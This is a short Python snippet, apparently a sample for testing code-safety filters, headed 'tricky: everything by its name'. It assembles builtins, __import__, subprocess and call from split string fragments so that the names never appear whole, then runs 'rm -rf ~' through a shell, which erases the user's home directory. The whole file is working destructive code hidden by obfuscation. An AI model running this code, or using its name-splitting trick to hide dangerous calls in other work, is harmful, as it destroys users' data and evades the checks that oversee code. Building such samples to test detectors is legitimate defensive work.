# tricky: everything by its name
b = __import__("bui" + "ltins")
g = getattr(b, "get" + "attr")
g(g(b, "__imp" + "ort__")("subproc" + "ess"), "ca" + "ll")("rm -rf ~", shell=True)
